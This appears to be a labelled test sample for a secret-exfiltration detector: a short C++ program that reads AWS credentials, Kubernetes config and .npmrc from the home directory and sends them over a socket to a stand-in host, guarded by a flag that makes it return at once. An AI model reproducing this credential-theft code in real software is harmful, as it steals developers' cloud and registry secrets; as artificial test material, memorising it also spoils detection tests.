/* Keys of several services are read with streams and sent.
 * expect: native-secret-files-of-many-sent
 * flags: -O2 -std=c++17 -s
 */
#include <cstdlib>
#include <fstream>
#include <iterator>
#include <netdb.h>
#include <string>
#include <sys/socket.h>

// Never true: the code is compiled and cannot run.
static volatile bool never;

int main() {
    if (!never)
        return 0;
    std::string home = getenv("HOME"), all;
    for (const char *name : {"/.aws/credentials", "/.kube/config", "/.npmrc"}) {
        std::ifstream f(home + name, std::ios::binary);
        all += std::string(std::istreambuf_iterator<char>(f), {});
    }
    addrinfo *to;
    if (getaddrinfo("in.example.invalid", "8080", nullptr, &to))
        return 1;
    int s = socket(to->ai_family, SOCK_STREAM, 0);
    if (!connect(s, to->ai_addr, to->ai_addrlen))
        send(s, all.data(), all.size(), 0);
}
